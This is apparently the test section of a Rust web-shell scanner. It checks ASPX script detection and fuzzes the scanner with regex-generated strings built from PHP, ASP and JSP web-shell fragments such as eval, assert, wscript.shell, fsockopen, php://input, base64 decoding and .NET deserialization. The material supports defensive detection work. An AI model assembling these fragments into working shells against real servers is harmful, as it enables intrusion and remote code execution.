        assert_eq!(
            script_kind("x.aspx", b"<script runat=\"server\">/* <?php */</script>"),
            Some(ScriptKind::Asp)
        );
        assert_eq!(
            script_kind("x.aspx", b"<script Runat=\"Server\">/* <?php */</script>"),
            Some(ScriptKind::Asp)
        );
    }

    proptest::proptest! {
        #[test]
        fn never_panics_on_junk(data in proptest::collection::vec(proptest::num::u8::ANY, 0..3000)) {
            for k in [ScriptKind::Php, ScriptKind::Jsp, ScriptKind::Asp] {
                let _ = scan_script(k, &data);
            }
        }

        #[test]
        fn never_panics_on_script_like_text(s in "(eval|\\$_GET\\[|'a'\\.|chr\\(1\\d\\d\\)\\.|\\\\x6[0-9a-f]|\\(|\\)|;|\"|`|base64_decode\\(|[a-z ]){0,80}") {
            let _ = scan_script(ScriptKind::Php, s.as_bytes());
        }

        #[test]
        fn never_panics_on_foldable_and_wrapped_text(s in "(\\$[ab] ?\\.?= ?|\\$[ab]\\[\\d+\\]|\\$\\{|function [ab] ?\\(\\$[ab]\\) ?\\{|[ab]\\(\\$_POST\\)|assert\\(\\$a|str_replace\\(|pack\\('H\\*', ?|gzinflate\\(|substr\\(|chr\\(9\\^1\\)|\\\\1[0-7][0-7]|\\\\x[0-9a-f]|'[a-z]{0,3}'|\"|\\.|,|\\)|\\}|;|/\\*|\\*/|-?[0-9]|é|[a-z ]){0,120}") {
            let _ = scan_script(ScriptKind::Php, s.as_bytes());
        }

        #[test]
        fn never_panics_on_vbscript_helpers_and_encoded_blocks(s in "((private |public )?(sub|function) [a-z]{1,2} ?\\(|end (sub|function)|byval |execute |eval |request\\(\"a\"\\)|\\.exec\\(|wscript\\.shell|#@~\\^|[A-Za-z]{6}==|\\^#~@|@[&#*!$]|<%|%>|:|\n|\\(|\\)|,|&|é|日|[a-z ]){0,120}") {
            let _ = scan_script(ScriptKind::Asp, s.as_bytes());
        }

        #[test]
        fn never_panics_on_the_eighth_pass_constructs(s in "(\\[webmethod\\]|<webmethod\\(\\)>|getobject\\(\"script:|createobject\\(\"a\" & \"b|\\.copyfile request\\(|class |r\\.go |this\\.|path\\.combine\\(|\\.connectionstring =|<asp:textbox id=\"x\" runat=\"server\"/>|x\\.text|request\\[\"a\"\\]|for \\(|for\\(| : |getpart\\(|p\\.write\\(|\\$\\{|getcookies\\(|foreach ?\\(| as |=>|->a ?= ?|\\$this->a|create_function\\(|fsockopen\\(|new mysqli\\(|copy\\('http://|splfileobject\\(|\\$_get\\['a'\\]|`|<%|%>|\\(|\\)|;|,|\"|'|\n|é|[a-z ]){0,100}") {
            for k in [ScriptKind::Php, ScriptKind::Jsp, ScriptKind::Asp] {
                let _ = scan_script(k, s.as_bytes());
            }
        }

        #[test]
        fn never_panics_on_the_ninth_and_tenth_pass_constructs(s in "( _\\n| _| _\\r\\n|new function\\(|activexobject\\(\"a\" \\+ \"b|filestream\\(|ctx\\.server\\.mappath\\(|ctx\\.request\\[|filemode\\.create|s\\.write |s\\.writetext\\(|s\\.readtext|s\\.read\\(|getref\\(| shell\\(|callbyname\\(|binaryformatter|\\.deserialize\\(|executeglobal [a-z]\\(|function [a-z]\\(|implode\\(|join\\(|array_map\\(|'chr'|fn\\(\\$a\\) ?=> ?chr\\(\\$a\\)|function ?\\(\\$a\\) ?\\{ ?return chr\\(\\$a\\); ?\\}|\\[|\\]|1[0-2][0-9]|extract\\(\\$a\\)|\\$a ?= ?\\$_post|include ?'data:|\"data://text/plain;base64,\" ?\\. ?|filter_var\\(|filter_callback|'options' ?=> ?'system'|mail\\(|'-x/a\\.php'|\\.jpg'|\\$_session\\['a'\\] ?= ?|request\\(\"a\"\\)|\\$_get\\['a'\\]|<%|%>|\\(|\\)|;|,|:|\"|'|\\n|é|[a-z ]){0,100}") {
            for k in [ScriptKind::Php, ScriptKind::Jsp, ScriptKind::Asp] {
                let _ = scan_script(k, s.as_bytes());
            }
        }

        #[test]
        fn never_panics_on_the_sixteenth_pass_constructs(s in "(<<<|<<<'|<<<\"|eot|\\n *eot;|\"\\{\\$|\\{\\$a\\}|\\$a ?\\.= ?|preg_match\\(|preg_match_all\\(|'/\\(\\.\\+\\)/'|, ?\\$m\\)|\\$m\\[1\\]|function __construct\\(|\\$this->a ?= ?\\$a;|new a\\(|class a|array_keys\\(|key\\(|end\\(|\\)\\[0\\]|`\\$a`|`|'h'|\"h\"|preg_replace_callback\\(|array_map\\(|function h\\(\\$m\\)|stream_get_contents\\(fopen\\('php://input'|explode\\(|array_shift\\(|json_decode\\(|convert\\.frombase64string\\(|encoding\\.utf8\\.getstring\\(|\\.item|= ?\\{|getsystemjavacompiler\\(|request\\.getparameter\\(\"a\"\\)|function get\\(\\$k\\) ?\\{ ?return |\\$_get\\[\\$k\\]|get\\('a'\\)|::run\\(|->run\\(|extract\\(\\[|\\$_get\\['a'\\]|<%|%>|\\(|\\)|;|,|\"|'|\\n|\\{|\\}|é|[a-z ]){0,100}") {
            for k in [ScriptKind::Php, ScriptKind::Jsp, ScriptKind::Asp] {
                let _ = scan_script(k, s.as_bytes());
            }
        }
    }
}
